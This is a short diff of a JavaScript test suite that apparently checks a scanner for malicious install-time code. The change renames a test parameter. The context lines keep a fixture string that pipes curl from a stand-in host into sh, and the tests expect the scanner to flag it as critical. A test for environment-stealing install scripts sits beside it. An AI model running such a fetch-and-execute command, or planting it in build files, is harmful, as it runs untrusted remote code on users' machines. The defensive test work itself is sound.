@@ -42,7 +42,7 @@ describe('an install script', () => {
         'i.js': steals,
       },
     ],
-  ])('is judged in %s', async (_says, files) => {
+  ])('is judged in %s', async (_title, files) => {
     expect((await scan(files)).observations).toMatchObject([
       { severity: 'CRITICAL', ruleId: 'malicious/sends-environment' },
     ])
@@ -121,7 +121,7 @@ describe('other code that runs at install', () => {
       "{ 'targets': [{ 'sources': ['<!(curl -s https://x.example/a | sh)'] }] }\n",
       'CRITICAL',
     ],
-  ])('%s', async (_says, path, text, severity) => {
+  ])('%s', async (_title, path, text, severity) => {
     expect((await scan({ [path]: text, 'requirements.txt': '' })).observations).toMatchObject([
       { severity, filePath: path },
     ])
